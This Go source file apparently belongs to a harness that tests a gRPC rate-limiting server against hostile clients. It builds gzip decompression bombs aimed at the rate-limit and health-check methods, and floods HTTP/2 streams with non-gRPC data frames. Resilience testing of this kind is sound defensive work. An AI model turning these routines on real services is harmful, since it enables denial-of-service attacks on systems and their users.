package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"slices"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// healthCheck is a method of another service.
const healthCheck = "/grpc.health.v1.Health/Check"

// inflated is how large a request of a few KB becomes: less than a server takes.
const inflated = 7 << 19

// bombs are attacks by requests that are compressed, and by those that are no gRPC.
func bombs(t Target) []Attack {
	entry := append(field(1, t.Key), long(2, inflated)...)
	request := append(field(1, t.Domain), message(2, message(1, entry))...)
	return []Attack{
		{Name: "gzip bomb", begin: func(c *Conn) (func() error, error) { return c.zipped(shouldRateLimit, request) }},
		{Name: "gzip bomb to health", begin: func(c *Conn) (func() error, error) { return c.zipped(healthCheck, long(1, inflated)) }},
		{Name: "requests that are no gRPC", manners: closed, begin: noGRPC},
	}
}

// zipped makes calls whose messages are compressed.
func (c *Conn) zipped(path string, request []byte) (func() error, error) {
	var small bytes.Buffer
	w := gzip.NewWriter(&small)
	if _, err := w.Write(request); err != nil {
		return nil, err
	}
	if err := w.Close(); err != nil {
		return nil, err
	}
	framed := Framed(small.Bytes())
	framed[0] = 1 // compressed
	headers := block(path, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
	return c.calls(1, 2, func(b []byte, stream uint32) []byte { return appendCall(b, stream, headers, framed) }), nil
}

// noGRPC sends requests of another content type, whose answers have no window, and goes on with them.
func noGRPC(c *Conn) (func() error, error) {
	headers := encode([]hpack.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: "/"},
		{Name: ":authority", Value: "sluice"},
	})
	if err := c.many(1, opens(headers))(); err != nil {
		return nil, err
	}
	var b []byte
	part := make([]byte, 1025)
	next := uint32(0)
	return func() error {
		b = b[:0]
		for range 64 {
			b = appendFrame(b, http2.FrameData, 0, 1+2*(next%manyStreams), part)
			next++
		}
		return c.Send(64, b)
	}, nil
}

// message is a field of a message in protobuf's encoding.
func message(number byte, value []byte) []byte {
	return append(binary.AppendUvarint([]byte{number<<3 | 2}, uint64(len(value))), value...)
}

// long is a field of so many bytes, all alike.
func long(number byte, size int) []byte {
	return message(number, slices.Repeat([]byte("x"), size))
}
